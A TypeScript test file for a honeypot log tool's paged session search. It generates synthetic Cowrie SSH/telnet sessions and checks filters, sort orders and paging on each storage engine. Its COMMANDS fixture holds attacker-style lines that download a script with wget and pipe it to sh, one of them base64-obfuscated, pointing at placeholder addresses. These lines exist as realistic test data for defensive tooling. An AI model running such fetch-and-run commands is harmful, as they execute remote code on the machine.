/** Lists of sessions against a search that looks at every session, on every engine. */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { compareUtf8 } from '../../src/core/text.ts'
import { rulesOf } from '../../src/core/verdict.ts'
import type { SessionRecord, Store } from '../../src/store/port.ts'
import { findSessions } from '../../src/store/repo/sessions.ts'
import type { SessionQuery } from '../../src/web/data/session-query.ts'
import { listSessions, type SessionList } from '../../src/web/data/sessions.ts'
import { Chance } from '../support/activity.ts'
import { eachEngine, NOW_US } from '../support/engines.ts'
import { event, type Fields, Lab, lines, rules, withLimits } from '../support/loading.ts'

const DAY_MS = 86_400_000
const START_MS = Date.UTC(2026, 3, 20)

const COMMANDS = [
  'uname -a',
  'cd /tmp; wget http://203.0.113.7/x.sh',
  'WGET http://203.0.113.7/x.sh -O- | sh',
  'cat /proc/cpuinfo',
  '100% _sure_',
  'back\\slash',
  'echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjcveA== | base64 -d | sh',
  'printf "\u001b]0;title\u0007"',
]
const USERS = ['root', 'admin', 'Root', 'ünï']
const PASSWORDS = ['123456', 'admin', '=1+1', '<b>']
const HASSHS = ['a704be057881f0b1d623cd263e477a8b', '4e066189c3bbeec38c99b1855113733a']
const FILES = ['e'.repeat(64), 'f'.repeat(64)]
const URLS = ['http://203.0.113.7/x.sh', 'http://198.51.100.9/a']
const VERSIONS = ['SSH-2.0-Go', 'SSH-2.0-libssh2_1.8.0']
const ADDRESSES = ['192.0.2.7', '192.0.2.77', '198.51.100.7', '2001:db8::7', '203.0.113.200']

/** What a session of the test was made of. */
type Made = {
  readonly sensor: string
  readonly session: string
  readonly address: string
  readonly texts: Readonly<Record<string, readonly string[]>>
  readonly eventids: readonly string[]
}

/** Sessions of every kind: long ones over midnight, several of one instant, values that are common and rare. */
function makeLog(seed: number, count: number, fromMs = START_MS): { log: Fields[]; made: Made[] } {
  const chance = new Chance(seed)
  const pick = <T>(list: readonly T[]): T => list[Math.floor(chance.next() ** 2 * list.length)]!
  const log: Fields[] = []
  const made: Made[] = []
  for (let i = 0; i < count; i += 1) {
    const sensor = pick(['sensor-1', 'sensor-2', 'Sensor'])
    // Every third starts at the instant of the one before; ids are shared by sensors.
    const startMs = fromMs + Math.floor((i - (i % 3 === 2 ? 1 : 0)) * 5.3 * 3_600_000)
    const session = (0xa00000000000 + seed * 100_000 + (i % 3 === 2 ? i - 1 : i)).toString(16)
    if (made.some((one) => one.sensor === sensor && one.session === session)) continue
    const address = pick(ADDRESSES)
    const texts: Record<string, string[]> = {}
    const eventids: string[] = []
    let atMs = startMs
    const stepMs = chance.next() < 0.15 ? DAY_MS / 2 : 900
    const add = (eventid: string, fields: Fields): void => {
      eventids.push(eventid)
      log.push({
        eventid,
        timestamp: new Date(atMs).toISOString().replace('Z', '000Z'),
        sensor,
        session,
        src_ip: address,
        message: '',
        ...fields,
      })
      atMs += stepMs
    }
    const put = (kind: string, text: string): string => {
      texts[kind] = [...(texts[kind] ?? []), text]
      return text
    }
    if (chance.next() < 0.9)
      add('cowrie.session.connect', { protocol: pick(['ssh', 'telnet']), dst_port: 22 })
    if (chance.next() < 0.6)
      add('cowrie.client.version', { version: put('client', pick(VERSIONS)) })
    if (chance.next() < 0.5) add('cowrie.client.kex', { hassh: put('hassh', pick(HASSHS)) })
    for (let n = Math.floor(chance.next() * 3); n > 0; n -= 1) {
      const username = put('username', pick(USERS))
      const password = put('password', pick(PASSWORDS))
      put('credential', `${username} / ${password}`)
      add(chance.next() < 0.4 ? 'cowrie.login.success' : 'cowrie.login.failed', {
        username,
        password,
      })
    }
    for (let n = chance.next() < 0.5 ? Math.floor(chance.next() * 5) : 0; n > 0; n -= 1) {
      const isFailed = chance.next() < 0.2
      const input = pick(COMMANDS)
      if (!isFailed) put('command', input)
      add(isFailed ? 'cowrie.command.failed' : 'cowrie.command.input', { input })
    }
    if (chance.next() < 0.3)
      add(chance.next() < 0.7 ? 'cowrie.session.file_download' : 'cowrie.session.file_upload', {
        shasum: put('file', pick(FILES)),
        url: put('url', pick(URLS)),
      })
    if (chance.next() < 0.1)
      add('cowrie.direct-tcpip.request', { dst_ip: '192.0.2.1', dst_port: 25 })
    if (chance.next() < 0.7 || eventids.length === 0)
      add('cowrie.session.closed', { duration: Math.floor(chance.next() * 200) / 10 })
    made.push({ sensor, session, address, texts, eventids })
  }
  // Events without a session belong to none.
  log.push(event({ session: '', sensor: 'sensor-1', timestamp: new Date(fromMs).toISOString() }))
  return { log, made }
}

type Known = {
  readonly record: SessionRecord
  readonly made: Made
  readonly rules: ReadonlySet<string>
}

/** The plain search: each filter is asked of each session. */
function holds(query: SessionQuery, { record, made, rules: hit }: Known): boolean {
  const has = (kind: string, text: string | undefined): boolean =>
    text === undefined || (made.texts[kind] ?? []).includes(text)
  const lower = (text: string): string => text.replace(/[A-Z]/g, (one) => one.toLowerCase())
  // Commands are stored in visible form; control characters of the test are looked for by none of its filters.
  const commands = (made.texts['command'] ?? []).map(lower)
  const least = (text: string | undefined, value: number | null): boolean =>
    text === undefined || (value !== null && value >= Number(text))
  const us = (text: string): number =>
    Date.parse(text.length === 10 ? `${text}T00:00:00Z` : text) * 1000
  const inNetwork = (network: string): boolean => {
    if (network === '192.0.2.0/24') return record.srcIp?.startsWith('192.0.2.') === true
    if (network === '192.0.2.64/26') return record.srcIp === '192.0.2.77'
    if (network === '2001:db8::/32') return record.srcIp === '2001:db8::7'
    return record.srcIp === network
  }
  const asked = new Set(
    rules.definitions
      .filter(({ id, techniques }) =>
        query.technique !== undefined
          ? techniques.some(
              (one) => one === query.technique || one.startsWith(`${query.technique}.`),
            )
          : id === query.rule,
      )
      .map(({ id }) => id),
  )
  return (
    (query.from === undefined || record.firstEventUs >= us(query.from)) &&
    (query.until === undefined || record.firstEventUs < us(query.until)) &&
    (query.sensor === undefined || record.sensor === query.sensor) &&
    (query.session === undefined || record.session === query.session) &&
    (query.address === undefined || inNetwork(query.address)) &&
    (query.protocol === undefined || record.protocol === query.protocol) &&
    has('username', query.username) &&
    has('password', query.password) &&
    has('credential', query.credential) &&
    has('file', query.file) &&
    has('url', query.url) &&
    has('hassh', query.hassh) &&
    has('client', query.client) &&
    (query.command === undefined || commands.some((one) => one.includes(lower(query.command!)))) &&
    (query.text === undefined ||
      commands.some((one) => query.text!.split(' ').every((word) => one.includes(lower(word))))) &&
    (query.event === undefined || made.eventids.includes(query.event)) &&
    ((query.technique === undefined && query.rule === undefined) ||
      [...hit].some((id) => asked.has(id))) &&
    least(query.threat, record.threatScore) &&
    least(query.hazard, record.hazardScore) &&
    least(query.minCommands, record.commandCount) &&
    least(query.minEvents, record.eventCount) &&
    (query.minSeconds === undefined ||
      (record.durationMs !== null && record.durationMs >= Number(query.minSeconds) * 1000)) &&
    (query.maxSeconds === undefined ||
      (record.durationMs !== null && record.durationMs <= Number(query.maxSeconds) * 1000)) &&
    (query.withLogin === undefined || record.loginSuccessCount > 0) &&
    (query.withCommands === undefined || record.commandCount + record.failedCommandCount > 0) &&
    (query.withFiles === undefined || record.downloadCount + record.uploadCount > 0)
  )
}

function sorted(query: SessionQuery, found: readonly Known[]): string[] {
  const key = ({ record }: Known): number => {
    switch (query.sort) {
      case 'threat':
        return record.threatScore
      case 'hazard':
        return record.hazardScore
      case 'commands':
        return record.commandCount
      case 'duration':
        return record.durationMs ?? -1
      case 'events':
        return record.eventCount
      default:
        return 0
    }
  }
  const sign = query.order === 'asc' ? 1 : -1
  return found
    .toSorted(
      (a, b) =>
        sign *
        (key(a) - key(b) ||
          a.record.firstEventUs - b.record.firstEventUs ||
          compareUtf8(a.record.sensor, b.record.sensor) ||
          compareUtf8(a.record.session, b.record.session)),
    )
    .map(({ record }) => `${record.sensor}/${record.session}`)
}

const FILTERS: readonly SessionQuery[] = [
  {},
  { from: '2026-04-25' },
  { until: '2026-04-28T12:00:00Z' },
  { from: '2026-04-22', until: '2026-05-02' },
  { sensor: 'sensor-2' },
  { sensor: 'none' },
  { session: (0xa00000000000 + 100_000 + 4).toString(16) },
  { address: '192.0.2.7' },
  { address: '192.0.2.0/24' },
  { address: '192.0.2.64/26' },
  { address: '2001:db8::/32' },
  { protocol: 'telnet' },
  { username: 'root' },
  { username: 'ünï' },
  { password: '=1+1' },
  { credential: 'root / 123456' },
  { file: 'f'.repeat(64) },
  { url: 'http://203.0.113.7/x.sh' },
  { hassh: HASSHS[1]! },
  { client: VERSIONS[0]! },
  { command: 'wget' },
  { command: '0% _' },
  { command: '\\s' },
  { command: 'not there' },
  { text: 'tmp wget' },
  { event: 'cowrie.login.failed' },
  { event: 'cowrie.direct-tcpip.request' },
  { event: 'cowrie.not.there' },
  { technique: 'T1105' },
  { technique: 'T1059' },
  { rule: 'threat.download.from-address' },
  { rule: 'threat.none.none' },
  { threat: '50' },
  { hazard: '1' },
  { minCommands: '2' },
  { minEvents: '5' },
  { minSeconds: '10.5' },
  { maxSeconds: '9' },
  { withLogin: '1' },
  { withCommands: '1' },
  { withFiles: '1' },
]
const SORTS = ['start', 'threat', 'hazard', 'commands', 'duration', 'events'] as const

/** Bounds at which every way of the search is taken on a log of this size. */
const TIGHT = {
  searchGatherMax: 4,
  searchWalkMax: 30,
  searchCountMax: 20,
  searchCountLookMax: 12,
  searchValuesMax: 1,
  searchVerdictsMax: 1,
}

const name = (one: { readonly sensor: string; readonly session: string }): string =>
  `${one.sensor}/${one.session}`

eachEngine(() => {
  describe('lists of sessions', () => {
    let lab: Lab
    let known: readonly Known[]
    let list: (query: SessionQuery) => Promise<SessionList>

    before(async () => {
      lab = await Lab.open()
      const { log, made } = makeLog(1, 90)
      lab.write('cowrie.json', lines(log))
      await lab.load()
      const hits = await lab.all<{ session: string; sensor: string; hits: string }>(
        `select sessions.session as session, sensors.name as sensor, verdicts.hits as hits from raw_events
           join sessions on sessions.session_key = raw_events.session_key join sensors on sensors.id = sessions.sensor_id
           join verdicts on verdicts.id = raw_events.verdict_id`,
      )
      const records: SessionRecord[] = []
      for await (const one of findSessions(lab.store.query, {})) records.push(one)
      known = records.map((record) => ({
        record,
        made: made.find((one) => name(one) === name(record))!,
        rules: new Set(
          hits.filter((hit) => name(hit) === name(record)).flatMap((hit) => rulesOf(hit.hits)),
        ),
      }))
      // As if it were another store each time: no count is kept from a test with other bounds.
      list = (query) =>
        listSessions(
          { store: { query: lab.store.query } as Store, clock: () => NOW_US, rules },
          query,
        )
    })
    after(() => lab[Symbol.asyncDispose]())

    /** All pages, one after the other, and then back from the last. */
    async function walked(query: SessionQuery): Promise<{ on: string[]; back: string[] }> {
      const on: string[] = []
      let page = await list(query)
      for (let pages = 0; ; pages += 1) {
        assert.ok(pages < 200, 'a list ends')
        on.push(...page.sessions.map(name))
        if (page.next === undefined) break
        page = await list({ ...query, cursor: page.next })
      }
      const back = page.sessions.map(name)
      while (page.previous !== undefined) {
        page = await list({ ...query, cursor: page.previous })
        back.unshift(...page.sessions.map(name))
      }
      return { on, back }
    }

    async function check(filter: SessionQuery): Promise<void> {
      const matching = known.filter((one) => holds(filter, one))
      const expected = sorted(filter, matching)
      const said = JSON.stringify(filter)
      const { on, back } = await walked({ ...filter, limit: '13' })
      assert.deepEqual(on, expected, said)
      assert.deepEqual(back, expected, `back: ${said}`)
      const { total } = await list(filter)
      if (total.isExact) assert.equal(total.count, matching.length, said)
      else assert.ok(total.count <= matching.length, said)
    }

    test('sessions of the test are of every kind', () => {
      assert.ok(known.length > 70)
      for (const filter of FILTERS) {
        const found = known.filter((one) => holds(filter, one)).length
        const isNone = /none|not[ .]there/.test(JSON.stringify(filter))
        assert.equal(found === 0, isNone, JSON.stringify(filter))
      }
    })

    for (const [words, limits] of [
      ['', {}],
      [', where every bound is reached', TIGHT],
    ] as const) {
      test(`each filter finds what a look at every session finds${words}`, () =>
        withLimits(limits, async () => {
          for (const filter of FILTERS) await check(filter)
        }))

      test(`each order holds for each filter, and pages lead on and back${words}`, () =>
        withLimits(limits, async () => {
          let turn = 0
          for (const filter of FILTERS) {
            const sort = SORTS[turn % SORTS.length]!
            const order = turn % 4 === 3 ? 'asc' : 'desc'
            turn += 1
            await check({ ...filter, sort, order })
          }
          for (const sort of SORTS)
            for (const order of ['asc', 'desc']) await check({ sort, order })
        }))

      test(`filters hold together${words}`, () =>
        withLimits(limits, async () => {
          const chance = new Chance(7)
          for (let i = 0; i < 40; i += 1) {
            const [a, b] = [0, 0].map(() => FILTERS[Math.floor(chance.next() * FILTERS.length)]!)
            const sort = SORTS[Math.floor(chance.next() * SORTS.length)]!
            await check({ ...a, ...b, sort, order: chance.next() < 0.3 ? 'asc' : 'desc' })
          }
        }))
    }

    test('a search that stops says how many sessions it looked at, and goes on from there', () =>
      withLimits({ searchWalkMax: 10, searchGatherMax: 0 }, async () => {
        const page = await list({ protocol: 'telnet' })
        assert.ok(page.stopped !== undefined && page.stopped.looked >= 10)
        assert.ok(page.next !== undefined)
        assert.equal(page.total.isExact, false)
      }))

    test('a stretch of a walk has one bound for each side, whatever is asked', async () => {
      // Of two an engine takes one, and reads the index to its end where that is the wider.
      const asked: string[] = []
      const watched = lab.store.query.withPlugin({
        transformQuery: ({ node }) => {
          asked.push(lab.store.query.getExecutor().compileQuery(node, { queryId: 'test' }).sql)
          return node
        },
        transformResult: async ({ result }) => result,
      })
      const store = { query: watched } as typeof lab.store // all it is asked for
      const bound = (key: string, signs: string) =>
        new RegExp(`(?<![+\\w.])\\(?${key}(?:, sessions\\.first_event_us\\))? ${signs}`, 'g')
      await withLimits({ searchWalkMax: 40, searchGatherMax: 0 }, async () => {
        for (const [sort, key] of [
          ['start', 'sessions\\.first_event_us'],
          ['threat', 'sessions\\.threat_score'],
          ['events', 'sessions\\.event_count'],
        ] as const)
          for (const order of ['asc', 'desc'] as const) {
            asked.length = 0
            const bounds = { sort, order, from: '2026-04-21', until: '2026-05-20', threat: '1' }
            await listSessions(
              { store, clock: () => NOW_US, rules },
              { ...bounds, limit: '5', protocol: 'telnet' },
            )
            const walks = asked.filter((one) => /from sessions cross join sensors/.test(one))
            assert.ok(walks.length > 1)
            for (const one of walks)
              for (const signs of ['<=?', '>=?'])
                assert.ok([...one.matchAll(bound(key, signs))].length <= 1, one)
          }
      })
    })

    test('a search whose questions take long stops sooner, and goes on until all are found', () =>
      withLimits({ searchWalkMax: 30, searchGatherMax: 0 }, async () => {
        const asked = { protocol: 'telnet', sort: 'duration' } as const
        const expected = sorted(
          asked,
          known.filter((one) => holds(asked, one)),
        )
        let nowUs = NOW_US
        const clock = (): number => {
          nowUs += 1_000_000
          return nowUs
        }
        const met: string[] = []
        let cursor: string | undefined
        do {
          const page = await listSessions(
            { store: lab.store, clock, rules },
            cursor === undefined ? asked : { ...asked, cursor },
          )
          assert.ok(page.stopped === undefined || page.stopped.looked < 30)
          assert.ok(cursor !== undefined || page.stopped !== undefined)
          met.push(...page.sessions.map(name))
          cursor = page.next
        } while (cursor !== undefined)
        assert.deepEqual(met, expected)
      }))

    test('who pages meets every session once, also while others come in', async () => {
      await using fresh = await Lab.open()
      fresh.write('a.json', lines(makeLog(2, 60).log))
      await fresh.load()
      const there = new Set<string>()
      for await (const one of findSessions(fresh.store.query, {})) there.add(name(one))
      for (const query of [{ limit: '7' }, { limit: '7', sort: 'threat' }] as const) {
        const met: string[] = []
        let cursor: string | undefined
        let n = 0
        do {
          const page = await listSessions(
            { store: fresh.store, clock: () => NOW_US, rules },
            cursor === undefined ? query : { ...query, cursor },
          )
          met.push(...page.sessions.map(name))
          cursor = page.next
          n += 1
          // Some before, some behind, some among those that are there.
          fresh.write(
            `b-${query.limit}-${'sort' in query}-${n}.json`,
            lines(makeLog(30 + n, 3, START_MS + (n - 3) * DAY_MS * 4).log),
          )
          await fresh.load()
        } while (cursor !== undefined && n < 60)
        const old = met.filter((one) => there.has(one))
        assert.equal(new Set(old).size, old.length, 'none twice')
        assert.deepEqual(new Set(old), there, 'all of them')
      }
    })
  })
})
